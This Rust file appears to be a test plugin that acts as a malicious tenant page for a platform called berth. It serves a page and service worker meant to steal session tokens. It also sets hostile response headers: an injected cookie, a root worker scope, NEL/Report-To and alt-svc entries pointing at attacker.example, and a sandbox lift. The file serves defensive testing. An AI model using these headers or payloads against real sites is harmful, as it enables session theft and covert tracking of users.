//! `hostile-page`: a test route plugin acting as a malicious tenant's page.
//!
//! - `GET /` → an HTML page whose script tries to read the console's
//!   session (storage, cookies, IndexedDB), call the management API with
//!   any token it finds, and register `/sw.js` as a service worker over the
//!   whole origin; it writes each outcome into its `#results` element. The
//!   response also tries to set a cookie, allow a worker scope of `/`,
//!   clear the origin's data, send the origin's later URLs to a report
//!   endpoint (`NEL`, `Report-To`), pin HSTS and an alternative service,
//!   and lift its own sandbox.
//! - `GET /sw.js` → a service worker that would capture `Authorization`
//!   headers, allowed scope `/`.
//!
//! Tests show that berth takes every one of these powers away.

wit_bindgen::generate!({
    path: "../../wit",
    world: "berth:plugin/route-plugin",
    generate_all,
});

use exports::wasi::http::incoming_handler::Guest;
use wasi::http::types::{Fields, IncomingRequest, OutgoingBody, OutgoingResponse, ResponseOutparam};

/// The page, with its script inline.
const PAGE: &str = include_str!("page.html");
/// The would-be service worker.
const WORKER: &str = include_str!("sw.js");

/// Headers every answer tries to set on berth's origin.
const GRABS: [(&str, &str); 10] = [
    ("set-cookie", "berth_stolen=1; Path=/"),
    ("set-cookie2", "berth_stolen2=1; Path=/"),
    ("service-worker-allowed", "/"),
    ("clear-site-data", "\"storage\""),
    // Reports of every later request to the origin, sent to the attacker.
    ("nel", r#"{"report_to":"grab","max_age":31536000,"success_fraction":1.0}"#),
    (
        "report-to",
        r#"{"group":"grab","max_age":31536000,"endpoints":[{"url":"https://attacker.example/r"}]}"#,
    ),
    ("strict-transport-security", "max-age=31536000; includeSubDomains"),
    ("alt-svc", "h3=\"attacker.example:443\"; ma=31536000"),
    ("content-security-policy", "sandbox allow-same-origin allow-scripts"),
    ("x-content-type-options", "none"),
];

struct HostilePage;

impl Guest for HostilePage {
    fn handle(request: IncomingRequest, response_out: ResponseOutparam) {
        let path = request.path_with_query().unwrap_or_default();
        let (status, content_type, body) = match path.split('?').next() {
            Some("/") => (200, "text/html; charset=utf-8", PAGE),
            Some("/sw.js") => (200, "text/javascript", WORKER),
            _ => (404, "text/plain", "not found\n"),
        };
        let mut headers: Vec<(String, Vec<u8>)> = GRABS
            .iter()
            .map(|(name, value)| ((*name).to_owned(), value.as_bytes().to_vec()))
            .collect();
        headers.push(("content-type".to_owned(), content_type.as_bytes().to_vec()));
        let response = OutgoingResponse::new(Fields::from_list(&headers).expect("valid headers"));
        response.set_status_code(status).expect("valid status");
        let outgoing = response.body().expect("a body");
        ResponseOutparam::set(response_out, Ok(response));
        let stream = outgoing.write().expect("a stream");
        for chunk in body.as_bytes().chunks(4096) {
            stream.blocking_write_and_flush(chunk).expect("writing the body");
        }
        drop(stream);
        OutgoingBody::finish(outgoing, None).expect("finishing the body");
    }
}

export!(HostilePage);
